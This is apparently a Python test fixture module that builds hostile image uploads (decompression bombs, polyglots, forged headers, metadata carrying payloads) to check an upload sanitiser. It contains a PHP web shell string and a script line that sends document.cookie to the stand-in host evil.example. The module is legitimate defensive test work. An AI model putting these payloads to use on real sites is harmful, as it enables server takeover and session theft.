"""A hostile-upload corpus, built in memory and deterministically, for every image upload path.

Each case names what an attacker (or a strange camera) sends and whether `clean_image` must refuse
it or accept it. Accepted cases must come back re-encoded with every payload string gone. The
inspectors at the end read the raw structure of JPEG, PNG and WebP files so tests can prove that
no metadata segment and no trailing byte survived.

    from tests.hostile_images import ACCEPTED, CASES, REFUSED, metadata_segments, trailing_bytes
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cached_property
from typing import Literal

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

Outcome = Literal["refused", "accepted"]

MAX_BYTES = 10 * 1024 * 1024  # mirrors sharemall.core.images.MAX_BYTES; a test pins the two equal
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
ZIP_MAGIC = b"PK\x03\x04"
SPY_CAMERA = "SpyCam-9000"
EXIF_HEADER = b"Exif\x00\x00"


@dataclass(frozen=True)
class HostileCase:
    """One upload. `size` is the (width, height) an accepted case must come back with."""

    name: str
    filename: str
    outcome: Outcome
    build: Callable[[], bytes] = field(repr=False)
    payloads: tuple[bytes, ...] = ()
    out_format: str = ""
    size: tuple[int, int] = (0, 0)

    @cached_property
    def data(self) -> bytes:
        return self.build()

    def __str__(self) -> str:
        return self.name


# --- builders ------------------------------------------------------------------------------


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def photo(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """Deterministic picture with real detail, so encoders and truncation behave as on a photo."""
    across = Image.linear_gradient("L").rotate(90).resize((width, height))
    down = Image.linear_gradient("L").resize((width, height))
    rings = Image.radial_gradient("L").resize((width, height))
    return Image.merge("RGB", (across, down, rings)).convert(mode)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png_of_zeros(width: int, height: int, *, bit_depth: int = 8) -> bytes:
    """A greyscale PNG of all-zero rows, compressed a band at a time so even 20000×20000 is cheap
    to build: a few kilobytes that would decode into hundreds of megabytes."""
    row = b"\x00" * (1 + (width * bit_depth + 7) // 8)
    band = row * max(1, min(height, 4_000_000 // len(row)))
    packer = zlib.compressobj(9)
    parts = []
    rows_left = height
    rows_per_band = len(band) // len(row)
    while rows_left > 0:
        rows = min(rows_left, rows_per_band)
        parts.append(packer.compress(band[: rows * len(row)]))
        rows_left -= rows
    parts.append(packer.flush())
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


def png_with_header_size(width: int, height: int) -> bytes:
    """A tiny PNG whose IHDR claims the given size over a few bytes of pixel data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def jpeg_segments(data: bytes) -> list[tuple[int, int, int]]:
    """(marker, offset, length) of each header segment before the scan data."""
    found = []
    offset = 2
    while offset + 4 <= len(data) and data[offset] == 0xFF:
        marker = data[offset + 1]
        length = struct.unpack(">H", data[offset + 2 : offset + 4])[0]
        found.append((marker, offset, length))
        if marker == 0xDA:  # start of scan: entropy-coded data follows
            break
        offset += 2 + length
    return found


def jpeg_with_header_size(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header is rewritten to claim another size."""
    data = bytearray(encode(photo(16, 16), "JPEG"))
    for marker, offset, _length in jpeg_segments(bytes(data)):
        if marker in {0xC0, 0xC1, 0xC2}:
            data[offset + 5 : offset + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_segment(marker: int, payload: bytes) -> bytes:
    """A valid JPEG with one more header segment straight after the start-of-image marker."""
    data = encode(photo(24, 24), "JPEG")
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def webp_with_header_size(width: int, height: int) -> bytes:
    """A lossless WebP whose VP8L header is rewritten to claim another size."""
    data = bytearray(encode(Image.new("RGB", (8, 8), (9, 9, 9)), "WEBP", lossless=True))
    start = data.find(b"VP8L") + 8
    assert data[start] == 0x2F, "expected a VP8L signature"
    bits = struct.unpack("<I", data[start + 1 : start + 5])[0]
    bits = (bits & ~((1 << 28) - 1)) | (width - 1) | ((height - 1) << 14)
    data[start + 1 : start + 5] = struct.pack("<I", bits)
    return bytes(data)


def gps_exif(*, orientation: int | None = None) -> Image.Exif:
    """Camera EXIF that gives a home away: GPS position, device, serial number, time."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "ShareMall"
    exif[ExifTags.Base.Model] = SPY_CAMERA
    exif[ExifTags.Base.DateTime] = "2026:03:01 08:30:00"
    exif[ExifTags.Base.BodySerialNumber] = "SN-0042-SECRET"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (22.0, 32.0, 10.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (113.0, 56.0, 3.25)
    return exif


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("shell.php", date_time=(2026, 1, 1, 0, 0, 0))
        archive.writestr(entry, PHP)
    return out.getvalue()


def animated(fmt: str) -> bytes:
    frames = [Image.new("RGB", (20, 10), (255, 0, 0)), Image.new("RGB", (20, 10), (0, 0, 255))]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100)


def mpo() -> bytes:
    left, right = Image.new("RGB", (20, 10), (255, 0, 0)), Image.new("RGB", (30, 10), (0, 0, 255))
    return encode(left, "MPO", save_all=True, append_images=[right])


def png_text() -> bytes:
    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_text("Author", PHP.decode(), zip=True)
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SCRIPT.decode()}</x:xmpmeta>")
    return encode(photo(12, 12, "RGBA"), "PNG", pnginfo=info)


def png_text_bomb() -> bytes:
    """A zTXt chunk that inflates past Pillow's 1 MB text limit: refused, never inflated whole."""
    text = b"Comment\x00\x00" + zlib.compress(b"A" * 8_000_000, 9)
    data = encode(photo(8, 8), "PNG")
    end = data.rindex(b"IEND") - 4
    return data[:end] + png_chunk(b"zTXt", text) + data[end:]


def png_bad_crc() -> bytes:
    data = bytearray(encode(photo(8, 8), "PNG"))
    idat = data.index(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    data[idat + 4 + length] ^= 0xFF  # first byte of the IDAT checksum
    return bytes(data)


def png_exif() -> bytes:
    return encode(photo(16, 8), "PNG", exif=gps_exif(orientation=6))


def grey_16_bit() -> bytes:
    image = Image.new("I;16", (6, 4))
    image.putdata([1000] * 24)  # 1000 / 65535 of white: should come back near black
    return encode(image, "PNG")


def palette_with_transparency() -> bytes:
    image = Image.new("P", (6, 4), 1)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    image.paste(0, (0, 0, 3, 4))  # left half uses entry 0, which is transparent
    return encode(image, "PNG", transparency=0)


def padded_over_limit() -> bytes:
    data = encode(photo(64, 64), "JPEG")
    return data + b"\x00" * (MAX_BYTES + 1 - len(data))


# --- the corpus ----------------------------------------------------------------------------


def _refused(name: str, filename: str, build: Callable[[], bytes]) -> HostileCase:
    return HostileCase(name, filename, "refused", build)


def _accepted(
    name: str,
    filename: str,
    build: Callable[[], bytes],
    *,
    out_format: str,
    size: tuple[int, int],
    payloads: tuple[bytes, ...] = (),
) -> HostileCase:
    return HostileCase(name, filename, "accepted", build, payloads, out_format, size)


CASES: list[HostileCase] = [
    # Too big to decode, judged from the header alone.
    _refused(
        "png-bomb-20000x20000", "photo.png", lambda: png_of_zeros(20_000, 20_000, bit_depth=1)
    ),
    _refused("png-bomb-under-pillow-limit", "photo.png", lambda: png_of_zeros(8000, 8000)),
    _refused(
        "png-header-claims-50000x50000", "photo.png", lambda: png_with_header_size(50_000, 50_000)
    ),
    _refused(
        "png-header-claims-10000x10000", "photo.png", lambda: png_with_header_size(10_000, 10_000)
    ),
    _refused(
        "jpeg-header-claims-65000x65000", "photo.jpg", lambda: jpeg_with_header_size(65_000, 65_000)
    ),
    _refused(
        "jpeg-header-claims-9000x9000", "photo.jpg", lambda: jpeg_with_header_size(9000, 9000)
    ),
    _refused(
        "webp-header-claims-16000x16000",
        "photo.webp",
        lambda: webp_with_header_size(16_000, 16_000),
    ),
    _refused("1-pixel-high-over-40-megapixels", "strip.png", lambda: png_of_zeros(40_000_001, 1)),
    _refused("1-pixel-high-30000-wide", "strip.png", lambda: png_of_zeros(30_000, 1)),
    _refused("png-zero-width", "photo.png", lambda: png_with_header_size(0, 10)),
    _refused("png-zero-height", "photo.png", lambda: png_with_header_size(10, 0)),
    _refused("jpeg-zero-height", "photo.jpg", lambda: jpeg_with_header_size(16, 0)),
    _refused("over-10-mb", "photo.jpg", padded_over_limit),
    _refused("empty", "photo.jpg", lambda: b""),
    # Broken images.
    _refused("jpeg-truncated", "photo.jpg", lambda: encode(photo(200, 200), "JPEG")[:1500]),
    _refused("png-truncated", "photo.png", lambda: encode(photo(200, 200), "PNG")[:2000]),
    _refused("webp-truncated", "photo.webp", lambda: encode(photo(200, 200), "WEBP")[:500]),
    _refused("png-bad-checksum", "photo.png", png_bad_crc),
    _refused("png-ztxt-bomb", "photo.png", png_text_bomb),
    # Other formats, whatever the name says.
    _refused("gif", "photo.gif", lambda: encode(photo(8, 8), "GIF")),
    _refused("gif-named-jpg", "photo.jpg", lambda: encode(photo(8, 8), "GIF")),
    _refused("bmp", "photo.bmp", lambda: encode(photo(8, 8), "BMP")),
    _refused("tiff", "photo.tiff", lambda: encode(photo(8, 8), "TIFF")),
    _refused(
        "svg-with-script",
        "photo.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    ),
    _refused("html-named-jpg", "photo.jpg", lambda: b"<!doctype html><html><body>" + SCRIPT),
    _refused("php-named-jpg", "photo.jpg", lambda: PHP),
    _refused("zip-named-jpg", "photo.jpg", zip_archive),
    _refused(
        "eps-named-jpg", "photo.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n"
    ),
    # Real images carrying something else: accepted, and the something else must be gone.
    _accepted(
        "jpeg-then-php-html-polyglot",
        "photo.jpg",
        lambda: encode(photo(16, 16), "JPEG") + PHP + b"<html>" + SCRIPT,
        out_format="JPEG",
        size=(16, 16),
        payloads=(b"<?php", b"<script", b"<html"),
    ),
    _accepted(
        "jpeg-then-zip",
        "photo.jpg",
        lambda: encode(photo(16, 16), "JPEG") + zip_archive(),
        out_format="JPEG",
        size=(16, 16),
        payloads=(ZIP_MAGIC, b"<?php", b"shell.php"),
    ),
    _accepted(
        "jpeg-comment-with-php",
        "photo.jpg",
        lambda: encode(photo(16, 16), "JPEG", comment=PHP),
        out_format="JPEG",
        size=(16, 16),
        payloads=(b"<?php",),
    ),
    _accepted(
        "jpeg-icc-profile-with-script",
        "photo.jpg",
        lambda: encode(photo(16, 16), "JPEG", icc_profile=SCRIPT),
        out_format="JPEG",
        size=(16, 16),
        payloads=(b"<script", b"ICC_PROFILE"),
    ),
    _accepted(
        "jpeg-exif-gps",
        "photo.jpg",
        lambda: encode(photo(24, 16), "JPEG", exif=gps_exif()),
        out_format="JPEG",
        size=(24, 16),
        payloads=(EXIF_HEADER, SPY_CAMERA.encode(), b"SN-0042-SECRET"),
    ),
    _accepted(
        "jpeg-exif-orientation-6",
        "photo.jpg",
        lambda: encode(photo(40, 10), "JPEG", exif=gps_exif(orientation=6)),
        out_format="JPEG",
        size=(10, 40),
        payloads=(EXIF_HEADER, SPY_CAMERA.encode()),
    ),
    _accepted(
        "jpeg-broken-exif",
        "photo.jpg",
        lambda: jpeg_with_segment(0xE1, EXIF_HEADER + b"MM\x00\x2a\xff\xff\xff\xf0" + PHP),
        out_format="JPEG",
        size=(24, 24),
        payloads=(EXIF_HEADER, b"<?php"),
    ),
    _accepted(
        "webp-exif-gps-xmp",
        "photo.webp",
        lambda: encode(
            photo(30, 12), "WEBP", exif=gps_exif(orientation=6), xmp=b"<x:xmpmeta>" + SCRIPT
        ),
        out_format="WEBP",
        size=(12, 30),
        payloads=(SPY_CAMERA.encode(), b"<script", b"EXIF", b"XMP "),
    ),
    _accepted(
        "png-exif-gps",
        "photo.png",
        png_exif,
        out_format="PNG",
        size=(8, 16),
        payloads=(b"eXIf", SPY_CAMERA.encode()),
    ),
    _accepted(
        "png-text-chunks-with-script",
        "photo.png",
        png_text,
        out_format="PNG",
        size=(12, 12),
        payloads=(b"<script", b"tEXt", b"zTXt", b"iTXt"),
    ),
    _accepted(
        "png-then-php",
        "photo.png",
        lambda: encode(photo(12, 12), "PNG") + PHP,
        out_format="PNG",
        size=(12, 12),
        payloads=(b"<?php",),
    ),
    _accepted(
        "png-named-jpg",
        "photo.jpg",
        lambda: encode(photo(12, 10), "PNG", dpi=(300, 300)),
        out_format="PNG",
        size=(12, 10),
        payloads=(b"pHYs",),
    ),
    # Strange but honest files: accepted as a plain still image.
    _accepted(
        "apng-first-frame", "anim.png", lambda: animated("PNG"), out_format="PNG", size=(20, 10)
    ),
    _accepted(
        "animated-webp-first-frame",
        "anim.webp",
        lambda: animated("WEBP"),
        out_format="WEBP",
        size=(20, 10),
    ),
    _accepted(
        "mpo-first-frame", "camera.jpg", mpo, out_format="JPEG", size=(20, 10), payloads=(b"MPF",)
    ),
    _accepted(
        "cmyk-jpeg",
        "print.jpg",
        lambda: encode(photo(16, 16, "CMYK"), "JPEG"),
        out_format="JPEG",
        size=(16, 16),
    ),
    _accepted("png-16-bit-grey", "scan.png", grey_16_bit, out_format="PNG", size=(6, 4)),
    _accepted(
        "png-palette-transparency",
        "logo.png",
        palette_with_transparency,
        out_format="PNG",
        size=(6, 4),
        payloads=(b"PLTE", b"tRNS"),
    ),
    _accepted(
        "png-1-bit",
        "fax.png",
        lambda: encode(photo(9, 7, "1"), "PNG"),
        out_format="PNG",
        size=(9, 7),
    ),
    _accepted(
        "png-20000x1-strip",
        "strip.png",
        lambda: png_of_zeros(20_000, 1),
        out_format="PNG",
        size=(20_000, 1),
    ),
]

REFUSED = [case for case in CASES if case.outcome == "refused"]
ACCEPTED = [case for case in CASES if case.outcome == "accepted"]


# --- inspectors ----------------------------------------------------------------------------


def metadata_segments(data: bytes) -> list[str]:
    """Names of the segments or chunks in an encoded image that carry anything but pixels."""
    if data.startswith(b"\xff\xd8"):
        pixel_or_layout = {0xC0, 0xC1, 0xC2, 0xC4, 0xDB, 0xDD, 0xDA, 0xE0}
        return [
            f"JPEG:{marker:02X}"
            for marker, _offset, _length in jpeg_segments(data)
            if marker not in pixel_or_layout
        ]
    if data.startswith(b"\x89PNG\r\n\x1a\n"):
        return [kind for kind in png_chunk_kinds(data) if kind not in {"IHDR", "IDAT", "IEND"}]
    if data[:4] == b"RIFF" and data[8:12] == b"WEBP":
        return [
            kind for kind in webp_chunk_kinds(data) if kind not in {"VP8 ", "VP8L", "VP8X", "ALPH"}
        ]
    raise ValueError("not a JPEG, PNG or WebP")


def trailing_bytes(data: bytes) -> int:
    """How many bytes follow the format's own end of image."""
    if data.startswith(b"\xff\xd8"):
        return len(data) - (data.rindex(b"\xff\xd9") + 2)
    if data.startswith(b"\x89PNG\r\n\x1a\n"):
        return len(data) - (data.index(b"IEND") + 8)
    if data[:4] == b"RIFF":
        return len(data) - (int(struct.unpack("<I", data[4:8])[0]) + 8)
    raise ValueError("not a JPEG, PNG or WebP")


def png_chunk_kinds(data: bytes) -> list[str]:
    kinds = []
    offset = 8
    while offset + 8 <= len(data):
        length = struct.unpack(">I", data[offset : offset + 4])[0]
        kinds.append(data[offset + 4 : offset + 8].decode("latin-1"))
        offset += 12 + length
    return kinds


def webp_chunk_kinds(data: bytes) -> list[str]:
    kinds = []
    offset = 12
    while offset + 8 <= len(data):
        length = struct.unpack("<I", data[offset + 4 : offset + 8])[0]
        kinds.append(data[offset : offset + 4].decode("latin-1"))
        offset += 8 + length + (length & 1)
    return kinds
